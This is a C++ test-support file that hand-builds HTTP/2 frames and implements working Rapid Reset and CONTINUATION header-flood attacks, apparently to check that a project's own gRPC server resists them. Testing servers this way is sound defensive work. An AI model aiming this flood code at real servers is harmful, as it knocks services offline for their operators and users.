#include "tests/support/http2_flood.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <memory>
#include <string>
#include <utility>

#include "absl/status/status.h"
#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"

namespace qbake::testing {
namespace {

constexpr absl::string_view kClientPreface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

enum FrameType : uint8_t {
  kHeaders = 0x1,
  kRstStream = 0x3,
  kSettings = 0x4,
  kPing = 0x6,
  kGoaway = 0x7,
  kContinuation = 0x9,
};
constexpr uint8_t kAck = 0x1;
constexpr uint8_t kEndHeaders = 0x4;
constexpr uint32_t kCancel = 0x8;
constexpr size_t kFrameHeaderBytes = 9;
constexpr int32_t kMaxStreamId = 0x7fffffff;

void AppendBigEndian(uint64_t value, int bytes, std::string* out) {
  for (int shift = 8 * (bytes - 1); shift >= 0; shift -= 8) {
    out->push_back(static_cast<char>((value >> shift) & 0xff));
  }
}

void AppendFrame(FrameType type, uint8_t flags, int32_t stream_id, absl::string_view payload,
                 std::string* out) {
  AppendBigEndian(payload.size(), 3, out);
  out->push_back(static_cast<char>(type));
  out->push_back(static_cast<char>(flags));
  AppendBigEndian(static_cast<uint32_t>(stream_id), 4, out);
  out->append(payload.data(), payload.size());
}

// An HPACK integer with a 7-bit prefix (RFC 7541, 5.1), the prefix's high bit 0.
void AppendHpackLength(size_t value, std::string* out) {
  if (value < 127) {
    out->push_back(static_cast<char>(value));
    return;
  }
  out->push_back(static_cast<char>(127));
  for (value -= 127; value >= 128; value >>= 7) {
    out->push_back(static_cast<char>((value & 0x7f) | 0x80));
  }
  out->push_back(static_cast<char>(value));
}

// A literal header field without indexing, its name new (RFC 7541, 6.2.2), no Huffman.
void AppendHeaderField(absl::string_view name, absl::string_view value, std::string* out) {
  out->push_back(0);
  AppendHpackLength(name.size(), out);
  out->append(name.data(), name.size());
  AppendHpackLength(value.size(), out);
  out->append(value.data(), value.size());
}

// The header block of a gRPC call of `method`.
std::string CallHeaders(absl::string_view method) {
  std::string block;
  AppendHeaderField(":method", "POST", &block);
  AppendHeaderField(":scheme", "http", &block);
  AppendHeaderField(":path", method, &block);
  AppendHeaderField(":authority", "qbake", &block);
  AppendHeaderField("content-type", "application/grpc", &block);
  AppendHeaderField("te", "trailers", &block);
  return block;
}

// 16 KiB (the default largest frame) of header fields, 128 bytes each, so any number
// of these blocks in a row is a whole number of fields.
std::string FloodFields() {
  std::string block;
  while (block.size() < (16 << 10)) AppendHeaderField("x-flood", std::string(118, 'f'), &block);
  return block;
}

}  // namespace

absl::StatusOr<std::unique_ptr<Http2Flood>> Http2Flood::Connect(const std::string& host, int port,
                                                                const std::string& source_address) {
  const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return absl::InternalError(absl::StrCat("socket: ", std::strerror(errno)));
  auto flood = std::unique_ptr<Http2Flood>(new Http2Flood(fd));
  sockaddr_in source{};
  source.sin_family = AF_INET;
  sockaddr_in peer{};
  peer.sin_family = AF_INET;
  peer.sin_port = htons(static_cast<uint16_t>(port));
  if (inet_pton(AF_INET, source_address.c_str(), &source.sin_addr) != 1 ||
      inet_pton(AF_INET, host.c_str(), &peer.sin_addr) != 1) {
    return absl::InvalidArgumentError(
        absl::StrCat("not IPv4 addresses: ", source_address, ", ", host));
  }
  if (bind(fd, reinterpret_cast<const sockaddr*>(&source), sizeof(source)) != 0 ||
      connect(fd, reinterpret_cast<const sockaddr*>(&peer), sizeof(peer)) != 0) {
    return absl::UnavailableError(absl::StrCat("connect to ", host, ":", port, " from ",
                                               source_address, ": ", std::strerror(errno)));
  }
  // A peer that stops reading ends the flood instead of blocking it for ever.
  const timeval send_timeout{10, 0};
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &send_timeout, sizeof(send_timeout));
  std::string opening(kClientPreface.data(), kClientPreface.size());
  AppendFrame(kSettings, 0, 0, "", &opening);
  if (!flood->Send(opening)) return absl::UnavailableError("the peer closed at the preface");
  flood->reader_ = std::thread([raw = flood.get()] { raw->ReadUntilClosed(); });
  return flood;
}

Http2Flood::Http2Flood(int fd) : fd_(fd) {}

Http2Flood::~Http2Flood() {
  shutdown(fd_, SHUT_RDWR);
  if (reader_.joinable()) reader_.join();
  close(fd_);
}

bool Http2Flood::Send(absl::string_view bytes) {
  MutexLock lock(&write_mu_);
  while (!bytes.empty()) {
    const ssize_t sent = send(fd_, bytes.data(), bytes.size(), MSG_NOSIGNAL);
    if (sent < 0 && errno == EINTR) continue;
    if (sent <= 0) {
      if (errno == EPIPE || errno == ECONNRESET) closed_ = true;
      return false;
    }
    bytes.remove_prefix(static_cast<size_t>(sent));
    bytes_sent_ += sent;
  }
  return true;
}

void Http2Flood::ReadUntilClosed() {
  std::string frame;
  const auto read_exactly = [this](size_t size, std::string* out) {
    out->resize(size);
    for (size_t done = 0; done < size;) {
      const ssize_t got = recv(fd_, out->data() + done, size - done, 0);
      if (got < 0 && errno == EINTR) continue;
      if (got <= 0) return false;
      done += static_cast<size_t>(got);
    }
    return true;
  };
  std::string header;
  while (read_exactly(kFrameHeaderBytes, &header)) {
    const auto byte = [&](size_t i) { return static_cast<uint8_t>(header[i]); };
    const size_t length = (size_t{byte(0)} << 16) | (size_t{byte(1)} << 8) | byte(2);
    const uint8_t type = byte(3);
    const uint8_t flags = byte(4);
    if (!read_exactly(length, &frame)) break;
    std::string reply;
    if (type == kSettings && (flags & kAck) == 0) AppendFrame(kSettings, kAck, 0, "", &reply);
    if (type == kPing && (flags & kAck) == 0) AppendFrame(kPing, kAck, 0, frame, &reply);
    if (type == kGoaway) goaway_ = true;
    if (!reply.empty()) Send(reply);
  }
  closed_ = true;
}

FloodReport Http2Flood::Report(absl::Time started) const {
  FloodReport report;
  report.bytes_sent = bytes_sent_;
  report.peer_sent_goaway = goaway_;
  report.peer_closed = closed_;
  report.elapsed = absl::Now() - started;
  return report;
}

FloodReport Http2Flood::RapidReset(absl::string_view method, absl::Duration duration) {
  const absl::Time started = absl::Now();
  const std::string headers = CallHeaders(method);
  std::string rst_payload;
  AppendBigEndian(kCancel, 4, &rst_payload);
  int64_t opened = 0;
  for (int32_t stream = 1; !closed_ && absl::Now() - started < duration;) {
    std::string batch;
    for (int pair = 0; pair < 64 && stream <= kMaxStreamId - 2; ++pair, stream += 2) {
      AppendFrame(kHeaders, kEndHeaders, stream, headers, &batch);
      AppendFrame(kRstStream, 0, stream, rst_payload, &batch);
      ++opened;
    }
    if (batch.empty() || !Send(batch)) break;
  }
  FloodReport report = Report(started);
  report.streams_opened = opened;
  return report;
}

FloodReport Http2Flood::ContinuationFlood(absl::string_view method, int64_t total_bytes,
                                          HeaderShape shape) {
  const absl::Time started = absl::Now();
  std::string block = CallHeaders(method);
  std::string fragment = FloodFields();
  if (shape == HeaderShape::kOneHugeField) {
    block.push_back(0);
    AppendHpackLength(7, &block);
    block.append("x-flood");
    AppendHpackLength(static_cast<size_t>(total_bytes), &block);
    fragment.assign(fragment.size(), 'f');
  }
  std::string opening;
  AppendFrame(kHeaders, 0, 1, block, &opening);
  bool sending = Send(opening);
  std::string continuation;
  AppendFrame(kContinuation, 0, 1, fragment, &continuation);
  while (sending && !closed_ && bytes_sent_ < total_bytes) sending = Send(continuation);
  FloodReport report = Report(started);
  report.streams_opened = 1;
  return report;
}

}  // namespace qbake::testing
